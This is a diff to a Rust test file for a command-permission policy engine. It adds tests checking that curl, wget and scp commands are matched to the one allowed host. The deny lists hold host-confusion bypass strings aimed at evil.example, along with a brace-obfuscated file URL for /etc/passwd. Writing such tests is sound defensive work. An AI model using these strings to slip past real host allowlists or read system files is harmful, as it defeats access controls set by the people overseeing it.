@@ -13,6 +13,8 @@ const KEPT: &str =
     "profile = \"dev\"\n[[rule]]\npath = \"data/kept/**\"\naccess = \"read\"\ndecide = \"deny\"\n";
 const KEPT_OPEN: &str =
     "profile = \"open\"\n[[rule]]\npath = \"data/kept/**\"\naccess = \"read\"\ndecide = \"deny\"\n";
+/// One host may be spoken to.
+const HOST: &str = "profile = \"dev\"\n[[rule]]\nhost = \"good.example\"\ndecide = \"allow\"\n";
 
 fn decided(policy: &Policy, line: &str) -> (Decide, String) {
     let input = json!({ "command": line });
@@ -201,4 +203,39 @@ fn what_an_unknown_program_is_given_may_be_a_folder_with_all_that_is_in_it() {
         &["tar c data | tar xO", "tar cf - .", "zip -r - data", "frob --from=data", "frob -Cdata"],
         &["tar c src", "frob --from=src", "frob -v other", "frob -Csrc"],
     );
+}
+
+#[test]
+fn a_host_is_known_only_where_every_program_sees_the_same() {
+    check(
+        HOST,
+        &[
+            "curl http:/evil.example/",
+            "curl http:evil.example",
+            r"curl 'http:\\evil.example'",
+            r"curl 'https://evil.example\@good.example'",
+            "curl evil.example/x://good.example",
+            "curl 'evil.example?x://good.example'",
+            "curl https://a@evil.example@good.example",
+            "curl https://evil.example:80:good.example",
+            "wget http:/evil.example/",
+            "wget evil.example/x://good.example",
+            "wget 'http://evil.example;@good.example'",
+            "scp a evil.example:x://good.example",
+            "curl 'fil{e}:///etc/passwd'",
+        ],
+        &[
+            "curl https://good.example/x",
+            "curl 'good.example:8080/x?y=http://z'",
+            "curl -s https://me:pw@good.example:443/x",
+            "curl HTTPS://Good.example",
+            "wget -q good.example/x",
+            "git clone https://good.example/x",
+            "git clone me@good.example:x/y",
+            "scp a good.example:b",
+        ],
+    );
+    let open = "profile = \"open\"\n[[rule]]\nhost = \"http\"\ndecide = \"ask\"\n[[rule]]\nhost = \"evil.example\"\ndecide = \"deny\"\n";
+    check(open, &["curl http:/evil.example/", "curl http:evil.example"], &["curl good.example"]);
+    check(KEPT_OPEN, &["curl 'fil{e}:///rig/wt/data/kept/x'", "curl \"f$x\""], &["curl a.example"]);
 }
